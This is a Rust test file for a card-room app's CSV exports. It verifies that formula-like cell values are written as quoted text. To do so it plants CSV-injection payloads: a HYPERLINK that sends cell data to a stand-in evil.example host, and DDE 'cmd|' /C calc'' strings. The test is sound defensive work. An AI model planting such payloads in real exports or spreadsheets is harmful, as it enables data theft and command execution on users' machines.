//! Every CSV export writes a text a spreadsheet would run as a formula (a cell starting with
//! `=`, `+`, `-`, `@`, a tab or a line break: "CSV injection") as text, with a single quote
//! before it, while numbers stay numbers. Formulas are planted in every text an export shows
//! (a game's name, a dealer's name, a player's alias and name, a ruling's note, decision,
//! rule cited and reasons) and every part of every export is read cell by cell.

use super::reports::day;
use super::support::*;
use crate::tablets::paired_room;
use cardroom::db::schema::{games, players, staff};
use diesel::prelude::*;
use serde_json::json;

/// The cells of a CSV file (header first), read with the separator of its header line.
fn read(body: &[u8]) -> Vec<Vec<String>> {
    let first = body.split(|b| *b == b'\n').next().unwrap_or_default();
    let sep = if first.contains(&b';') { b';' } else { b',' };
    let mut rd = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(sep)
        .from_reader(body);
    rd.records()
        .map(|x| x.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// The cells of a CSV page.
async fn cells(app: &TestApp, s: &WebSession, uri: &str) -> Vec<Vec<String>> {
    let r = app.page(uri, s).await;
    assert_eq!(r.status, 200, "{uri}: {}", r.text());
    assert!(
        r.header("content-type")
            .unwrap_or_default()
            .starts_with("text/csv"),
        "{uri}"
    );
    read(&r.body)
}

/// A number as the exports write one: `-12`, `1234.50`, `1234,50`.
fn is_number(s: &str) -> bool {
    let digits = s.strip_prefix('-').unwrap_or(s);
    let mut parts = digits.splitn(2, ['.', ',']);
    let whole = parts.next().unwrap_or_default();
    !whole.is_empty()
        && whole.chars().all(|c| c.is_ascii_digit())
        && parts
            .next()
            .is_none_or(|f| !f.is_empty() && f.chars().all(|c| c.is_ascii_digit()))
}

/// No cell of `rows` starts a formula, unless it is a number.
fn no_formula(uri: &str, rows: &[Vec<String>]) {
    for row in rows {
        for cell in row {
            let first = cell.trim_start_matches(' ').chars().next();
            if first.is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n')) {
                assert!(
                    is_number(cell),
                    "{uri}: a cell a spreadsheet would run: {cell:?}"
                );
            }
        }
    }
}

/// `rows` show `planted` as text: a single quote before it.
fn shows(uri: &str, rows: &[Vec<String>], planted: &str) {
    let quoted = format!("'{planted}");
    assert!(
        rows.iter().flatten().any(|c| *c == quoted),
        "{uri}: {quoted:?} not in {rows:?}"
    );
}

const GAME_1: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"NL 1/2\")";
const GAME_2: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const DEALER_1: &str = "-2+3+cmd|' /C calc'!A0";
const DEALER_2: &str = "+SUM(1)";
const ALIAS: &str = "=1+1";
const FULL_NAME: &str = "+2+2 Ana";

#[actix_web::test]
async fn every_report_export_writes_a_planted_formula_as_text() {
    let d = day().await;
    let (app, s) = (&d.app, &d.s);
    app.with_conn(|c| {
        for (id, name) in [(1, GAME_1), (2, GAME_2)] {
            diesel::update(games::table.find(id))
                .set(games::name.eq(name))
                .execute(c)
                .unwrap();
        }
        for (username, name) in [("dealer1", DEALER_1), ("dealer2", DEALER_2)] {
            diesel::update(staff::table.filter(staff::username.eq(username)))
                .set(staff::display_name.eq(name))
                .execute(c)
                .unwrap();
        }
        diesel::update(players::table)
            .set((players::alias.eq(ALIAS), players::full_name.eq(FULL_NAME)))
            .execute(c)
            .unwrap();
    });
    let q = "day=2026-11-20";
    // The main report, every part; the planted names where the part shows them.
    let parts: [(&str, &[&str]); 7] = [
        ("tables", &[]),
        ("games", &[GAME_1, GAME_2]),
        ("days", &[]),
        ("shifts", &[DEALER_1, DEALER_2]),
        ("waits", &[GAME_1]),
        ("hours", &[]),
        ("limits", &[GAME_1, GAME_2]),
    ];
    for (part, planted) in parts {
        let uri = format!("/floor/reports.csv?{q}&part={part}");
        let rows = cells(app, s, &uri).await;
        assert!(rows.len() > 1, "{uri}: {rows:?}");
        no_formula(&uri, &rows);
        for p in planted {
            shows(&uri, &rows, p);
        }
    }
    // The dealers' report.
    for part in ["dealers", "downs"] {
        let uri = format!("/floor/reports/dealers.csv?{q}&part={part}");
        let rows = cells(app, s, &uri).await;
        no_formula(&uri, &rows);
        shows(&uri, &rows, DEALER_1);
        shows(&uri, &rows, DEALER_2);
    }
    // The players' hours.
    for part in ["players", "days"] {
        let uri = format!("/floor/reports/players.csv?month=2026-11&part={part}");
        let rows = cells(app, s, &uri).await;
        no_formula(&uri, &rows);
        shows(&uri, &rows, ALIAS);
        shows(&uri, &rows, FULL_NAME);
    }
}

#[actix_web::test]
async fn the_incident_log_exports_write_a_planted_formula_as_text() {
    let app = TestApp::new().await;
    let (token, floor, _tablet) = paired_room(&app).await;
    let note = "=HYPERLINK(\"http://evil.example\",\"see note\")";
    let decision = "+1+1 the bet stands";
    let rule = "@SUM(1+1)";
    let r = app
        .send_json(
            "POST",
            "/api/v1/tables/1/rulings",
            &token,
            json!({ "note": note }),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text());
    let id = r.json()["id"].as_i64().unwrap();
    let r = app
        .send_json(
            "POST",
            &format!("/api/v1/rulings/{id}/decision"),
            &token,
            json!({ "decision": decision, "rule": rule }),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text());
    // A formula in the table's game shows in the log too.
    let game = "-1+cmd|' /C calc'!A0";
    app.with_conn(|c| {
        diesel::update(games::table.find(1))
            .set(games::name.eq(game))
            .execute(c)
            .unwrap()
    });
    for uri in ["/api/v1/rulings.csv", "/floor/rulings.csv"] {
        let rows = if uri.starts_with("/api") {
            let r = app.get(uri, &token).await;
            assert_eq!(r.status, 200, "{}", r.text());
            read(&r.body)
        } else {
            cells(&app, &floor, uri).await
        };
        assert_eq!(rows.len(), 2, "{uri}: {rows:?}");
        no_formula(uri, &rows);
        for planted in [note, decision, rule, game] {
            shows(uri, &rows, planted);
        }
    }
}
